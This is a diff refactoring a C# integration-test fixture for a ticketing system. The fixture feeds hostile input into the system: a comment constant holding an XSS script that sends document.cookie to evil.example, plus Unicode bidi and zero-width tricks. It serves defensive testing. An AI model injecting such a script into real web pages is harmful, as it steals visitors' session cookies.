@@ -1,12 +1,9 @@
 using System.Net;
 using System.Text.Json.Nodes;
-using Mediator;
 using Microsoft.EntityFrameworkCore;
-using Microsoft.Extensions.DependencyInjection;
 using Shouldly;
-using Ticketing.Application.Sync.Commands.RunSync;
 using Ticketing.Domain.Sync;
-using Ticketing.IntegrationTests.Admin;
+using Ticketing.IntegrationTests.Sync;
 using Ticketing.IntegrationTests.Webhooks;
 using Ticketing.Simulator.Tickets;
 
@@ -28,9 +25,9 @@ public sealed class HostileInputFixture : IAsyncLifetime
     public const string Comment = "<script>document.location='https://evil.example/?c='+document.cookie</script>";
     public const string UnicodeTitle = "Ünïcödé Ticket 🚀 中文 \u202Eevil\u202C zero\u200Bwidth ’quotes’ Ǆ";
 
-    internal AdminApp App { get; private set; } = null!;
+    public TestApp App { get; private set; } = null!;
 
-    internal AdminApp.Browser Admin { get; private set; } = null!;
+    public TestBrowser Admin { get; private set; } = null!;
 
     internal string HostileTicketId { get; private set; } = null!;
 
@@ -40,7 +37,7 @@ public sealed class HostileInputFixture : IAsyncLifetime
 
     public async ValueTask InitializeAsync()
     {
-        App = await AdminApp.StartAsync("hostile");
+        App = await TestApp.StartAsync(new() { Purpose = "hostile" });
         var store = App.Simulator.Store;
         var customFields = new JsonObject { ["note"] = CustomField, ["<b>key</b>"] = "value", ["device"] = new JsonObject { ["name"] = CustomField } };
         var hostile = store.Create(
@@ -49,27 +46,20 @@ public sealed class HostileInputFixture : IAsyncLifetime
         store.Create(new NewTicketInput(UnicodeTitle, "Ω≈ç√∫ — naïve café ﷽", TicketPriority.Low, "Software", null, "Zoë Ñúñez", null, null, [], "{}"), null);
         HostileTicketId = hostile.Id;
 
-        await using (var scope = App.Services.CreateAsyncScope())
-        {
-            var outcome = await scope.ServiceProvider.GetRequiredService<ISender>()
-                .Send(new RunSyncCommand(SyncType.Manual, Full: true), TestContext.Current.CancellationToken);
-            outcome.Result.ShouldNotBeNull().Run.Status.ShouldBe(SyncStatus.Success);
-        }
+        var outcome = await App.SyncAsync(full: true, SyncType.Manual);
+        outcome.Result.ShouldNotBeNull().Run.Status.ShouldBe(SyncStatus.Success);
 
         // A comment arrives by webhook, as the remote sends comments.
-        using (var client = new HttpClient { BaseAddress = App.BaseUrl })
+        var comment = WebhookBodies.Event("ticket.comment_added", WebhookBodies.Ticket(hostile.Id, new DateTimeOffset(2020, 1, 1, 0, 0, 0, TimeSpan.Zero), Title), new JsonObject
         {
-            var comment = WebhookBodies.Event("ticket.comment_added", WebhookBodies.Ticket(hostile.Id, new DateTimeOffset(2020, 1, 1, 0, 0, 0, TimeSpan.Zero), Title), new JsonObject
-            {
-                ["id"] = "cmt_hostile_1",
-                ["author_name"] = Requester,
-                ["body"] = Comment,
-                ["created_at"] = WebhookBodies.Timestamp(DateTimeOffset.UtcNow),
-            });
-            using var request = WebhookApp.Signed(comment, secret: AdminApp.WebhookSecret);
-            using var response = await client.SendAsync(request, TestContext.Current.CancellationToken);
-            response.StatusCode.ShouldBe(HttpStatusCode.Accepted);
-        }
+            ["id"] = "cmt_hostile_1",
+            ["author_name"] = Requester,
+            ["body"] = Comment,
+            ["created_at"] = WebhookBodies.Timestamp(DateTimeOffset.UtcNow),
+        });
+        using var request = WebhookRequests.Signed(comment);
+        using var response = await App.SendWebhookAsync(request);
+        response.StatusCode.ShouldBe(HttpStatusCode.Accepted);
 
         await Eventually.UntilAsync(
             async () => await App.ScalarAsync<long>("SELECT count(*) FROM ticket_comments WHERE external_comment_id = 'cmt_hostile_1'") == 1,
@@ -78,7 +68,7 @@ public sealed class HostileInputFixture : IAsyncLifetime
         await using var db = App.Database.CreateDbContext();
         HostileCacheId = await db.Tickets.Where(t => t.ExternalTicketId == hostile.Id).Select(t => t.Id).SingleAsync();
         UnicodeCacheId = await db.Tickets.Where(t => t.Title == UnicodeTitle).Select(t => t.Id).SingleAsync();
-        Admin = await App.SignedInAsync();
+        Admin = await App.SignedInAsync(TestUser.Admin);
     }
 
     public async ValueTask DisposeAsync()
@@ -114,9 +104,9 @@ public sealed class HostileInputTests(HostileInputFixture fixture) : IClassFixtu
     /// <summary>As long as a query string may be: Kestrel refuses request lines over 8 KiB with 414.</summary>
     private static readonly string LongestQuery = new('y', 7_000);
 
-    private AdminApp App => fixture.App;
+    private TestApp App => fixture.App;
 
-    private AdminApp.Browser Admin => fixture.Admin;
+    private TestBrowser Admin => fixture.Admin;
 
     [Fact]
     public async Task The_cache_holds_the_remotes_hostile_text_verbatim()
